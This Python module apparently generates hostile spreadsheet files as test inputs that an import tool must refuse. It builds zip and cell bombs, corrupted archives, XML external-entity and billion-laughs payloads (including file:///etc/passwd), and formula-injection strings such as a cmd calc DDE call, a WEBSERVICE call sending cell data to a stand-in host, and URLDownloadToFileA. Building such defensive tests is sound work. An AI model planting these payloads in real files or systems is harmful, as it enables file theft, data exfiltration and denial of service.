# SPDX-License-Identifier: EUPL-1.2
"""Hostile workbooks: files that no reader should take, each made from a seed.

`make(random, folder)` writes one and gives its path and the family it is of. A file of every family must be refused.
"""

import io
import struct
import zipfile

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'


def relation(name, kind, target, mode=""):
    return f'<Relationship Id="{name}" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>'


def xlsx_parts(sheet, strings=None, more=None):
    """The parts of a workbook of one sheet, whose XML is given whole."""
    return {
        "[Content_Types].xml": HEAD + "<Types/>",
        "_rels/.rels": f'{HEAD}<Relationships xmlns="{PACKAGE}">{relation("r1", "officeDocument", "xl/workbook.xml")}'
                       "</Relationships>",
        "xl/workbook.xml": f'{HEAD}<workbook xmlns="{MAIN}" xmlns:r="{RELATIONS}"><sheets>'
                           '<sheet name="Suivi" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{HEAD}<Relationships xmlns="{PACKAGE}">'
                                      + relation("r1", "worksheet", "worksheets/sheet1.xml")
                                      + relation("r2", "sharedStrings", "sharedStrings.xml") + "</Relationships>",
        "xl/sharedStrings.xml": strings or f'{HEAD}<sst xmlns="{MAIN}"><si><t>Nom</t></si></sst>',
        "xl/worksheets/sheet1.xml": sheet,
        **(more or {}),
    }


def sheet_of(rows, head=HEAD):
    return f'{head}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'


def text_cell(place, text):
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def plain_sheet():
    return sheet_of(f'<row r="1">{text_cell("A1", "Nom")}</row><row r="2">{text_cell("A2", "DUPONT")}</row>')


def ods_parts(table, head=HEAD, more=None):
    return {
        "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": f"{head}<office:document-content {OFFICE}><office:body><office:spreadsheet>{table}"
                       "</office:spreadsheet></office:body></office:document-content>",
        **(more or {}),
    }


def ods_table(rows):
    return f'<table:table table:name="Suivi">{rows}</table:table>'


def ods_cell(text, attributes=""):
    return f'<table:table-cell office:value-type="string" {attributes}><text:p>{text}</text:p></table:table-cell>'


def pack(parts, compression=zipfile.ZIP_DEFLATED):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression, compresslevel=1) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return stream.getvalue()


def plain_zip(random):
    return pack(xlsx_parts(plain_sheet()) if random.random() < 0.5
                else ods_parts(ods_table("<table:table-row>" + ods_cell("DUPONT") + "</table:table-row>")))


# Families: each gives bytes, of a file that must be refused.

def bomb_bytes(random):
    """Far more than is said, or than is read: white space, rows, or one long text."""
    size = random.choice((260, 300, 400)) * 1024 * 1024
    stream = io.BytesIO()
    parts = xlsx_parts(None)
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, text in parts.items():
            if text is not None:
                archive.writestr(name, text)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=False) as part:
            part.write(f'{HEAD}<worksheet xmlns="{MAIN}"><sheetData>'.encode())
            block = random.choice((b" ", b"<row/>", b"<row><c/></row>")) * 100000
            for _ in range(size // len(block)):
                part.write(block)
            part.write(b"</sheetData></worksheet>")
    data = bytearray(stream.getvalue())
    if random.random() < 0.5:
        lie_about_sizes(data)
    return bytes(data)


def lie_about_sizes(data):
    """Every entry of the list of parts says that it unpacks to 100 bytes."""
    at = data.find(b"PK\1\2")
    while at >= 0:
        struct.pack_into("<I", data, at + 24, 100)
        at = data.find(b"PK\1\2", at + 4)


def bomb_cells(random):
    """More cells than are kept, by few bytes: repeated rows and cells."""
    columns, rows = random.choice(((1000, 5000), (16384, 1048576), (3, 1048576), (1024, 2147483647)))
    cell = ods_cell("A", f'table:number-columns-repeated="{columns}"')
    return pack(ods_parts(ods_table(f'<table:table-row table:number-rows-repeated="{rows}">{cell}</table:table-row>')))


def bomb_texts(random):
    """One shared text of a megabyte, that every cell has."""
    strings = f'{HEAD}<sst xmlns="{MAIN}"><si><t>{"A" * 1000000}</t></si></sst>'
    cells = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(1, random.randint(500, 5000)))
    return pack(xlsx_parts(sheet_of(cells), strings))


def bomb_merges(random):
    """Merged areas that lie over one another, with values that would be everywhere."""
    cells = "".join(f'<row r="{i}">{text_cell(f"A{i}", "x")}{text_cell(f"ALL{i}", "y")}</row>' for i in range(1, 2000))
    merges = "".join(f'<mergeCell ref="A{i}:ALL{i + 1000}"/>' for i in range(1, random.randint(900, 1900)))
    sheet = f'{HEAD}<worksheet xmlns="{MAIN}"><sheetData>{cells}</sheetData><mergeCells>{merges}</mergeCells></worksheet>'
    return pack(xlsx_parts(sheet))


def many_parts(random):
    return pack(xlsx_parts(plain_sheet(), more={f"xl/p{i}.xml": "" for i in range(random.randint(4100, 6000))}),
                zipfile.ZIP_STORED)


def far_cells(random):
    place = random.choice(("XFD1", "A1048576", "ZZZZ9", "A99999999", "AMK200001"))
    return pack(xlsx_parts(sheet_of(f"<row>{text_cell(place, 'x')}</row>")))


LAUGHS = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
ENTITIES = (
    f'<!DOCTYPE x [<!ENTITY a0 "ha">{LAUGHS}]>',
    '<!DOCTYPE x [<!ENTITY a9 SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY a9 SYSTEM "file:///dev/zero">]>',
    '<!DOCTYPE x [<!ENTITY a9 SYSTEM "http://exemple.invalid/a">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://exemple.invalid/a.dtd">%p;<!ENTITY a9 "x">]>',
    '<!DOCTYPE x SYSTEM "file:///etc/passwd" [<!ENTITY a9 "x">]>',
    '<!DOCTYPE x PUBLIC "-//X//X" "http://exemple.invalid/x.dtd" [<!ENTITY a9 "x">]>',
    f'<!DOCTYPE x [<!ENTITY a9 "{"A" * 100000}">]>',
)


def entities(random):
    head = HEAD + random.choice(ENTITIES)
    kind = random.randrange(4)
    if kind == 0:
        return pack(xlsx_parts(sheet_of(f'<row>{text_cell("A1", "&a9;" * random.choice((1, 1000)))}</row>', head)))
    if kind == 1:
        return pack(xlsx_parts(plain_sheet(), f'{head}<sst xmlns="{MAIN}"><si><t>&a9;</t></si></sst>'))
    if kind == 2:
        return pack(xlsx_parts(sheet_of('<row><c r="A1" t="&a9;"><v>1</v></c></row>', head)))
    return pack(ods_parts(ods_table("<table:table-row>" + ods_cell("&a9;") + "</table:table-row>"), head))


def broken_cut(random):
    data = plain_zip(random)
    return data[:random.randrange(4, len(data) - 22)]


def broken_data(random):
    """A byte of what is packed is another: its sum tells."""
    data = bytearray(pack(xlsx_parts(sheet_of("".join(f"<row>{text_cell(f'A{i}', random.random())}</row>"
                                                         for i in range(1, 60))))))
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    entry = archive.getinfo("xl/worksheets/sheet1.xml")
    start = entry.header_offset + 30 + len(entry.filename)
    data[start + random.randrange(entry.compress_size)] ^= 1 << random.randrange(8)
    return bytes(data)


def broken_list(random):
    """The list of parts leads nowhere."""
    data = bytearray(plain_zip(random))
    end = data.rfind(b"PK\5\6")
    struct.pack_into("<I", data, end + 16, random.choice((0xFFFFFF00, len(data) + 1000, 1, end - 3)))
    return bytes(data)


def broken_xml(random):
    text = plain_sheet()
    kind = random.randrange(5)
    if kind == 0:
        text = text[:random.randrange(60, len(text) - 1)]
    elif kind == 1:
        text = text.replace("DUPONT", "<a><b></a></b>")
    elif kind == 2:
        text = text.encode().replace(b"DUPONT", bytes([random.choice((0xC3, 0xFF, 0x80, 1, 8))]) + b"(")
    elif kind == 3:
        text = text.replace("DUPONT", "<a>" * random.choice((200, 100000)))
    else:
        text = text.replace("UTF-8", random.choice(("UTF-7", "UTF-32", "EBCDIC-CP-FR", "x-user-defined"))) + "é"
    return pack(xlsx_parts(text))


def twice(random):
    """A name that two parts have: one for each reader."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, text in xlsx_parts(plain_sheet()).items():
            archive.writestr(name, text)
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr(random.choice(("xl/worksheets/sheet1.xml", "xl/workbook.xml")), plain_sheet())
    return stream.getvalue()


def locked(random):
    """Parts that say they are encrypted."""
    data = bytearray(plain_zip(random))
    for mark, place in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


FORMULAS = ("cmd|' /C calc'!A0", 'WEBSERVICE("http://exemple.invalid/?"&amp;A1)', 'HYPERLINK("http://exemple.invalid","x")',
            'RTD("a","b","c")', 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://exemple.invalid","a",0,0)',
            "'file:///etc/passwd'#$A1", 'DDE("soffice","a","b")', "'\\\\exemple.invalid\\partage\\[a.xlsx]F'!A1",
            'IMPORTXML("x","y")', 'FILTERXML(A1,"//a")', 'EXEC("calc")', 'REGISTER.ID("a","b")')


def formula(random):
    text = random.choice(FORMULAS)
    kind = random.randrange(3)
    if kind == 0:
        return pack(xlsx_parts(sheet_of(f'<row><c r="A1"><f>{text}</f><v>1</v></c></row>')))
    if kind == 1:
        quoted = text.replace('"', "&quot;")
        return pack(ods_parts(ods_table('<table:table-row><table:table-cell office:value-type="float" office:value="1" '
                                        f'table:formula="of:={quoted}"/></table:table-row>')))
    return formula_csv(random)


def formula_csv(random):
    text = random.choice(FORMULAS).replace("&amp;", "&").replace('"', '""')
    sign = random.choice(("=", "=", "=+", "= "))
    return f'Nom;Prénom\nDUPONT;"{sign}{text}"\n'.encode()


def active(random):
    name = random.choice(("xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml", "xl/embeddings/a.bin",
                          "xl/connections.xml", "xl/macrosheets/sheet1.xml", "xl/activeX/activeX1.bin", "Basic/a.xml",
                          "Scripts/python/a.py", "dde", "source"))
    if name.startswith("xl/"):
        return pack(xlsx_parts(plain_sheet(), more={name: "x"}))
    row = "<table:table-row>" + ods_cell("x") + "</table:table-row>"
    if name == "dde":
        return pack(ods_parts('<table:dde-links><table:dde-link><office:dde-source office:dde-application="soffice"/>'
                              "</table:dde-link></table:dde-links>" + ods_table(row)))
    if name == "source":
        return pack(ods_parts(ods_table('<table:table-source xmlns:xlink="http://www.w3.org/1999/xlink" '
                                        'xlink:href="file:///etc/passwd"/>' + row)))
    return pack(ods_parts(ods_table(row), more={name: "x"}))


def other_format(random):
    return random.choice((b"%PDF-1.7\n", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", b"<?xml version='1.0'?><a/>", b"<html>",
                          b"\x89PNG\r\n\x1a\n\0\0", b"\x7fELF\2\1\1\0", b"\x1f\x8b\x08\0\0", b"{\\rtf1")) + random.randbytes(200)


def other_zip(random):
    return pack({random.choice(("word/document.xml", "a.txt", "xl/a.xml")): "x"})


def csv_bytes(random):
    text = bytearray("Nom;Prénom\nDUPONT;Ana\n".encode("cp1252") * 10)
    text[random.randrange(len(text))] = random.choice((0, 0x81, 0x9D, 0x8F))
    return bytes(text)


def csv_wide(random):
    return (b"Nom" + b";x" * random.randint(2000, 200000) + b"\n") * random.choice((1, 20))


def csv_long(random):
    return b"Nom;A\n" + b"x;1\n" * random.randint(200001, 400000)


FAMILIES = (bomb_cells, bomb_texts, bomb_merges, many_parts, far_cells, entities, entities, entities, broken_cut,
            broken_cut, broken_data, broken_data, broken_list, broken_xml, broken_xml, twice, locked, formula, formula,
            formula_csv, active, other_format, other_zip, csv_bytes, csv_wide, csv_long)
# Of these, one in so many: each takes a second or two to make.
RARE = ((bomb_bytes, 40),)


def make(random, number, folder):
    """A file of a family, by turns; its path and the name of the family."""
    family = next((rare for rare, every in RARE if number % every == every - 1), FAMILIES[number % len(FAMILIES)])
    path = folder / f"{number}-{family.__name__}"
    path.write_bytes(family(random))
    return path, family.__name__
